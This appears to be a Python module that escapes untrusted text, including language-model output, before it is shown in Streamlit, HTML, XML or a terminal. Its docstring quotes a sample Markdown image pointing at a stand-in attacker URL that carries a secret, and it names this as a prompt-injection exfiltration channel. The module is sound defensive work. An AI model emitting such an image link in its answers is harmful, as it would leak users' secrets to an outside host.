"""Every string Folio did not write (document text, page labels, file and document names, chat titles, model
output, a user's words), escaped for the place it is shown: one function per sink.

- `literal`: Markdown (Streamlit's `st.markdown`, captions, labels, tooltips) that shows the text exactly as typed.
- `label`: the same on one line (expander labels, image captions, radio options).
- `inert`: Markdown that keeps an answer's harmless formatting (emphasis, lists, quotes, code) but can make no
  request and show no link: images and links become text, raw HTML, math and directives are escaped.
- `html_text`: text inside an HTML block (the source panel's `<div>`), on one Markdown line.
- `attribute`: a quoted XML attribute value (the prompt's `<source … pages="…">`).
- `printable` / `terminal`: plain text / Rich markup for a terminal, with no control or escape sequence.

Why each exists: Streamlit renders Markdown, so `![x](https://attacker/?secret=…)` in a document, a page label or a
model's answer would make the browser fetch an address of the text's choosing (the prompt-injection exfiltration
channel). Streamlit's Markdown (remark-gfm) also turns bare `http://…`, `www.…` and `a@b.c` into links *after*
backslash escapes are resolved, so an escape cannot stop those: a word joiner (U+2060, invisible) is put inside
them instead. Tested with generated hostile strings in tests/test_display.py and in a real browser.
"""

from __future__ import annotations

import html
import re
from xml.sax.saxutils import quoteattr

# C0 and C1 controls except tab and newline (ESC starts terminal sequences, CR is a Markdown line ending) and the
# bidirectional overrides that make text read differently from what it is ("Trojan Source").
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_LINE_ENDING = re.compile(r"\r\n?")
_INDENT = re.compile(r"^[ \t]+", re.MULTILINE)  # four spaces or a tab would start a code block
_JOINER = "\u2060"  # WORD JOINER: invisible, and not a character of any URL or e-mail address pattern
# remark-gfm's literal autolinks: `http://`, `https://`, `www.` and `x@y.z` (found in text after escapes resolve)
_AUTOLINK = re.compile(r"(?i)(?<=https)(?=:)|(?<=http)(?=:)|(?<=www)(?=\.)|(?<=@)")
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>$~&:=^])")
# what makes links, images, HTML, math, entities and directives (`:name[…]`); emphasis, lists and code stay
_INERT_SPECIAL = re.compile(r"([\\\[\]<$&])|(:)(?=[a-z])", re.IGNORECASE)
_IMAGE = re.compile(r"!\[([^\[\]]*)\]\s*(?:\([^()]*\)|\[[^\[\]]*\])?")
_LINK = re.compile(r"\[([^\[\]]*)\]\s*\(\s*<?([^()\s>]*)>?[^()]*\)")
_ANGLE_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]*:|www\.)[^<>\s]*)>", re.IGNORECASE)


def printable(text: str) -> str:
    """`text` without control characters, for a terminal: a file name, document text or model output cannot
    move the cursor, change colours, make a hyperlink or retitle the window with an escape sequence."""
    return _CONTROL.sub("", _LINE_ENDING.sub("\n", text))


def terminal(text: str) -> str:
    """`text` for Rich markup (`console.print(f"… {terminal(name)}")`): printed as typed, never a style or link."""
    from rich.markup import escape

    shown = printable(text)
    body = shown.rstrip("\\")
    # Backslashes just before a tag escape it, so those that end `text` are doubled: the tag after it still closes
    return escape(body) + "\\" * (2 * (len(shown) - len(body)))


def literal(text: str) -> str:
    """`text` as Markdown shown as typed: every Markdown, HTML and LaTeX character escaped; line breaks kept."""
    shown = _MARKDOWN_SPECIAL.sub(r"\\\1", _unlinked(_INDENT.sub("", printable(text))))
    return shown.replace("\n", "  \n")


def label(text: str) -> str:
    """`text` as typed on one line (a label, a caption, an option): runs of white space become one space."""
    return literal(" ".join(printable(text).split()))


def inert(text: str) -> str:
    """`text` as Markdown that can make no request and show no link: images and links become text (an image's
    description, a link's text and its address as text), raw HTML, math and directives are escaped; emphasis,
    lists, quotes and code stay."""
    text = printable(text)
    text = _IMAGE.sub(lambda m: f"(image: {' '.join(m.group(1).split())})", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
    text = _ANGLE_AUTOLINK.sub(lambda m: m.group(1), text)
    return _INERT_SPECIAL.sub(lambda m: "\\" + (m.group(1) or m.group(2)), _unlinked(text))


def html_text(text: str) -> str:
    """`text` inside an HTML block of `st.markdown(…, unsafe_allow_html=True)`: HTML-escaped, and on one line (a
    blank line would end the HTML block and let the rest be read as Markdown), line breaks kept as `&#10;`."""
    return html.escape(printable(text)).replace("\n", "&#10;")


def attribute(text: str) -> str:
    """`text` as a quoted XML attribute value, quotes included (`pages="p. 3"`): it cannot end the tag."""
    return quoteattr(printable(text))


def _unlinked(text: str) -> str:
    """`text` with a word joiner inside every literal autolink (`http⁠://`, `www⁠.`, `a@⁠b.c`)."""
    return _AUTOLINK.sub(_JOINER, text)
